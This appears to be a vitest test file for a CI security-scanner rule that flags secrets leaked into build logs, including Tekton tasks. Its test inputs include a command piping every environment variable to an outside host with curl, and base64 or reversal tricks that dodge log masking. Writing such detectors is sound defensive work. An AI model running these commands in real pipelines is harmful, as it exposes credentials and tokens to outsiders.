import { expect, it } from 'vitest';
import { findingsOf } from '../../testing/scan-text.ts';
import { surfaceFindings } from '../../testing/surface.ts';
import { rule } from './rule.ts';

function judge(...commands: string[]): string[] {
  const lines = commands.map((command) => `      ${command}\n`).join('');
  const findings = surfaceFindings(rule, {
    text: `build:\n  uses: hook\n  steps:\n    - |\n${lines}`,
    jobs: ({ credential }) => ({ build: { credentials: [credential('hook', { name: 'HOOK' })] } }),
  });
  return findings.map(({ severity, confidence, message }) => `${severity} ${confidence} ${message}`);
}

it('knows secrets of the job, and others by their names', () => {
  expect(judge('echo "$HOOK" | base64')).toEqual([
    'high high HOOK is written to the log in a form that is not masked',
  ]);
  expect(judge('echo $(deployToken) | rev')).toEqual([
    'high medium deployToken is written to the log in a form that is not masked',
  ]);
  expect(judge('echo "key: $NPM_TOKEN"')).toEqual([
    'low medium NPM_TOKEN is printed, and only the mask of the log hides it',
  ]);
});

it('finds scripts that send everything away', () => {
  expect(judge('env | curl -d @- https://example.com')).toEqual([
    'critical high every variable of the step is sent away',
  ]);
});

it('is silent about what is no secret, and about output that is collected', () => {
  expect(judge('echo "$PWD" | base64', 'echo "$VERSION"', 'make')).toEqual([]);
  expect(judge('{', 'echo "$HOOK"', '} > settings')).toEqual([]);
});

it('is for everybody where the platform has no masks, when the definition says that it is a secret', () => {
  const print = (valueFrom: string): string[] =>
    findingsOf(
      'leaked-secret',
      `# --- t.yaml\napiVersion: tekton.dev/v1\nkind: Task\nmetadata: { name: t }\nspec: { steps: [{ env: [{ name: HOOK_TOKEN, ${valueFrom} }], script: echo $HOOK_TOKEN }] }\n`,
    ).map(({ severity, persona, message }) => `${severity} ${persona} ${message}`);
  expect(print('valueFrom: { secretKeyRef: { name: a, key: b } }')).toEqual([
    'medium regular HOOK_TOKEN is printed, and no mask of the log hides it',
  ]);
  expect(print('value: $(params.name)')).toEqual([
    'low pedantic HOOK_TOKEN is printed, and no mask of the log hides it',
  ]);
});
